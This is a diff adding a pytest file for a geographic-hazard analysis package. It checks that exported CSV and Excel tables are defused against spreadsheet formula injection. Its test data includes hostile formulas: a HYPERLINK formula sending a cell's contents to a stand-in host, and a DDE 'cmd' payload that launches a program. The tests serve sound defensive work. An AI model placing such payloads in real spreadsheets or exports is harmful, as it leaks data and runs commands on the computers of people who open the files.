@@ -1,0 +1,70 @@
+"""Writing results: tables that cannot run as spreadsheet formulas, and result sets that are whole."""
+
+from __future__ import annotations
+
+import csv
+import zipfile
+
+import openpyxl
+import pytest
+
+import geo
+from geo.export import write_outputs
+from tests.conftest import hazards_tm
+
+FORMULAS = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|'/c calc'!A1"]
+
+
+@pytest.fixture(scope="module")
+def hostile_result(straight_world):
+    provinces, frontier = straight_world
+    provinces = provinces.assign(code=["=1+2", "B"], province=["@Alpha", "Beta"])
+    hz = hazards_tm([(1 + 2 * i, 0, 2 + 2 * i, 1) for i in range(len(FORMULAS))], ids=FORMULAS)
+    hz["remarks"] = FORMULAS[0]
+    hz["=evil_column"] = "x"
+    hz["count"] = -5  # a number stays a number
+    return geo.analyze(hz, provinces=provinces, frontier=frontier)
+
+
+def _starts_like_formula(text: str) -> bool:
+    return text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def test_csv_cells_never_start_a_formula(tmp_path, hostile_result):
+    write_outputs(hostile_result, tmp_path / "out")
+    for name in ("by_hazard.csv", "by_province.csv"):
+        with open(tmp_path / "out" / name, encoding="utf-8", newline="") as fh:
+            rows = list(csv.reader(fh))
+        text_cells = [c for row in rows for c in row if c and not _is_number(c)]
+        assert text_cells and not [c for c in text_cells if _starts_like_formula(c)], name
+    with open(tmp_path / "out" / "by_hazard.csv", encoding="utf-8", newline="") as fh:
+        table = list(csv.DictReader(fh))
+    assert {r["hazard_id"] for r in table} == {"'" + f for f in FORMULAS}  # the text is all there, defused
+    assert {r["count"] for r in table} == {"-5"}  # numbers stay numbers
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_xlsx_holds_no_formula(tmp_path, hostile_result):
+    write_outputs(hostile_result, tmp_path / "out", xlsx=True)
+    path = tmp_path / "out" / "tables.xlsx"
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    wb = openpyxl.load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if _starts_like_formula(t)]
+    assert "'" + FORMULAS[0] in texts
+    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
+    assert -5 in numbers
+    summary = {r[0].value: r[1].value for r in wb["summary"].iter_rows(min_row=2)}
+    assert isinstance(summary["area_km2"], float)  # a number, not text
